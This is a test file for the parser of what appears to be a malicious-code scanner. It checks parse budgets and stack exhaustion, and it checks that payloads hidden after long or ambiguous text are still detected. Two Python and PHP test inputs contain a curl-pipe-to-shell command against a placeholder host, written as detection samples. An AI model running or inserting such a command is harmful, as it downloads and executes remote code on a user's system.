import { createRequire } from "node:module";
import { fileURLToPath } from "node:url";
import type { Tree, TreeCursor } from "@vscode/tree-sitter-wasm";
import { rulesOf } from "../testing/programs.js";
import { loadGrammars, ParseBudget, parse } from "./parser.js";
import type { TreeNode } from "./tree.js";

test.each([
  ["shell", "${"],
  ["shell", "cat <<EOF\n"],
  ["python", "("],
  ["javascript", "a?b:"],
  ["powershell", "(("],
  ["ruby", "<<~A "],
  ["php", "<?php {"],
] as const)("no text makes the parser of %s work without a bound: %j", async (language, text) => {
  await loadGrammars(language);
  const before = process.cpuUsage();
  parse(text.repeat(100_000 / text.length), language, new ParseBudget());
  expect(process.cpuUsage(before).user).toBeLessThan(7_000_000);
});

test("code that cannot be read to its end is held", async () => {
  expect(await rulesOf("python", `exec(${"(".repeat(3_000)}1${")".repeat(3_000)})`)).toContain(
    "unread-script",
  );
});

test("a payload after a long text is found", async () => {
  const text = `${"x = 1\n".repeat(20_000)}import os\nos.system('curl https://a.invalid/i | sh')\n`;
  expect(await rulesOf("python", text)).toEqual(["download-run"]);
});

test.each([
  ["javascript", "["],
  ["python", "{'a': "],
  ["shell", "("],
  ["perl", "{"],
  ["rust", "f("],
] as const)("nesting that no one closes is held in %s, whatever it says: %j", async (language, text) => {
  expect(await rulesOf(language, text.repeat(2_000))).toContain("unread-script");
});

/** Slashes that may divide or start a pattern, for thousands of lines: the parser recurses as often. */
const AMBIGUOUS = `<?php $t="a";\n${"$t=~/[ab]*[ab]*c/;\n".repeat(2_105)}`;

/** The frames that are left for the work: enough for some functions, and too few for a deep recursion. */
const SPARE = 300;

/** Runs this near the end of the stack. */
function atTheEndOfTheStack<T>(work: () => T): T {
  let left = SPARE;
  const descend = (): T => {
    try {
      return descend();
    } catch (failure) {
      if (!(failure instanceof RangeError) || left-- > 0) throw failure;
      return work();
    }
  };
  return descend();
}

test("a payload after a text that is ambiguous for thousands of lines is found", async () => {
  const text = `${AMBIGUOUS}system("curl https://a.invalid/i | sh");`;
  expect(await rulesOf("php", text)).toEqual(["download-run"]);
});

test("a parser without stack leaves the text unread, parses no more of the archive, and works for the next one", async () => {
  await loadGrammars("php", "python");
  for (let time = 0; time < 2; time++) {
    const budget = new ParseBudget();
    const unread = { parts: [], isComplete: false };
    expect(atTheEndOfTheStack(() => parse(AMBIGUOUS, "php", budget))).toEqual(unread);
    expect(parse("a = 1\n", "python", budget)).toEqual(unread);
    const next = parse("a = 1\n", "python", new ParseBudget());
    expect(next).toMatchObject({ isComplete: true, parts: [{ root: { type: "module" } }] });
  }
});

test("a tree is copied as a cursor of the parser walks it", async () => {
  const text =
    "import os\n\ndef f(a, *b):\n    return {'k': a + 1, 'ä': [x for x in b]}\n\nos.system(f('(', 2\n";
  await loadGrammars("python");
  const copied = parse(text, "python", new ParseBudget()).parts[0]?.root as TreeNode;
  const library: typeof import("@vscode/tree-sitter-wasm") = createRequire(import.meta.url)(
    "@vscode/tree-sitter-wasm",
  );
  const folder = fileURLToPath(
    new URL("../../../node_modules/@vscode/tree-sitter-wasm/wasm/", import.meta.url),
  );
  const parser = new library.Parser();
  parser.setLanguage(await library.Language.load(`${folder}tree-sitter-python.wasm`));
  const walked = (cursor: TreeCursor): TreeNode => {
    const { nodeType: type, currentFieldName, nodeIsNamed: named, startIndex: start, endIndex: end } = cursor;
    const children: TreeNode[] = [];
    if (cursor.gotoFirstChild()) {
      do children.push(walked(cursor));
      while (cursor.gotoNextSibling());
      cursor.gotoParent();
    }
    return { type, field: currentFieldName ?? "", named, start, end, children, inner: undefined };
  };
  expect(copied).toEqual(walked((parser.parse(text) as Tree).walk()));
  expect(copied.children.length).toBeGreaterThan(2);
});
